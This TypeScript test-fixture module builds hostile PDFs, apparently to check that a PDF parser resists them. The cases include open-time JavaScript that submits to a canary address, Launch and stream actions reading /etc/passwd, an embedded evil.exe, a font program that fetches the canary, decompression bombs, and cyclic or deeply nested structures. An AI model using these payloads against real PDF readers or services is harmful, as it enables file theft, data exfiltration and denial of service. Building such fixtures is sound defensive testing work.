/** PDFs as text editors would write them, whole and hostile. */
import { deflateSync } from "node:zlib";

/** Objects numbered from 1; the first is the catalogue. `xref` may lie. */
export function pdfOf(objects: readonly (string | Buffer)[], trailer = "", xref?: string): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const offsets: number[] = [];
  let at = parts[0]!.length;
  for (const [n, object] of objects.entries()) {
    const part = Buffer.concat([Buffer.from(`${n + 1} 0 obj\n`), Buffer.isBuffer(object) ? object : Buffer.from(object, "latin1"), Buffer.from("\nendobj\n")]);
    offsets.push(at);
    at += part.length;
    parts.push(part);
  }
  const table = xref ?? `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("")}`;
  parts.push(Buffer.from(`${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`));
  return Buffer.concat(parts);
}

export const stream = (content: string | Buffer, dictionary = ""): Buffer => {
  const bytes = Buffer.from(content as string);
  return Buffer.concat([Buffer.from(`<< /Length ${bytes.length} ${dictionary} >>\nstream\n`), bytes, Buffer.from("\nendstream")]);
};
export const deflated = (content: Buffer, dictionary = ""): Buffer => stream(deflateSync(content), `/Filter /FlateDecode ${dictionary}`);

const page = (contents: string): string => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents ${contents} /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const words = (text: string): Buffer => stream(`BT /F1 14 Tf 20 100 Td (${text}) Tj ET`);

/** A whole PDF, a page for each text; `catalogue` adds to its first object. */
export function pdf(texts: readonly string[], catalogue = "", more: readonly (string | Buffer)[] = []): Buffer {
  const kids = texts.map((_, n) => `${3 + n * 2} 0 R`).join(" ");
  return pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, `<< /Type /Pages /Kids [${kids}] /Count ${texts.length} >>`, ...texts.flatMap((text, n) => [page(`${4 + n * 2} 0 R`), words(text)]), ...more]);
}

/** Names an address or a file in every way that a PDF can. */
export function hostilePdfs(canary: string): [string, Buffer][] {
  const script = `app.alert(1); this.submitForm('${canary}/js'); while(true){}`;
  const one = (contents: Buffer, more: readonly (string | Buffer)[] = []): Buffer => pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page("4 0 R"), contents, ...more]);
  return [
    ["script at opening", pdf(["Hello"], `/OpenAction << /S /JavaScript /JS (${script}) >>`)],
    ["scripts by name", pdf(["Hello"], `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>`)],
    ["address at opening", pdf(["Hello"], `/OpenAction << /S /URI /URI (${canary}/uri) >>`)],
    ["file at opening", pdf(["Hello"], "/OpenAction << /S /Launch /F (/etc/passwd) >>")],
    ["embedded file", pdf(["Hello"], "/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>] >> >>", [stream("MZ")])],
    ["outside stream", one(stream("", `/F (${canary}/stream) /FFilter /FlateDecode`))],
    ["stream of /etc/passwd", one(stream("", "/F (/etc/passwd)"))],
    ["100,000 pages by count", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 100000 >>", page("4 0 R"), words("One")])],
    ["100,000 pages that are one", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${"3 0 R ".repeat(100_000)}] /Count 100000 >>`, page("4 0 R"), words("Again")])],
    ["pages in a circle", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 5 >>"])],
    ["10,000 levels of pages", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", ...Array.from({ length: 10_000 }, (_, n) => `<< /Type /Pages /Kids [${n + 3} 0 R] /Count 1 >>`)])],
    ["huge xref", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"], "", "xref\n0 999999999\n0000000000 65535 f \n")],
    ["xref in a circle", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"], "/Prev 15")],
    ["length in a circle", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page("4 0 R"), "<< /Length 4 0 R >>\nstream\nBT ET\nendstream"])],
    ["50 MB of nothing in a page", one(deflated(Buffer.alloc(50_000_000, 0x20)))],
    ["bomb in a bomb", one(stream(deflateSync(deflateSync(Buffer.alloc(20_000_000))), "/Filter [/FlateDecode /FlateDecode]"))],
    ["50,000 words on a page", one(deflated(Buffer.from(`BT /F1 9 Tf ${"(word ) Tj ".repeat(50_000)} ET`)))],
    ["form in itself", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>", stream("/X Do"), stream("/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>")])],
    ["20,000 brackets", pdfOf([`<< /Type /Catalog /Pages 2 0 R /A ${"[".repeat(20_000)}${"]".repeat(20_000)} >>`, "<< /Type /Pages /Kids [] /Count 0 >>"])],
    ["encrypted", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>", `<< /Filter /Standard /V 1 /R 2 /O <${"41".repeat(32)}> /U <${"42".repeat(32)}> /P -4 >>`], "/Encrypt 3 0 R /ID [<00><00>]")],
    ["font program that calls", pdf(["Hello"], "", [stream(`%!PS\n/FontMatrix [1 0 0 1 0 (0); globalThis.fetch('${canary}/font')] def`, "/Length1 80")])],
    ["no pages at all", Buffer.from("%PDF-1.7\n%%EOF")],
  ];
}
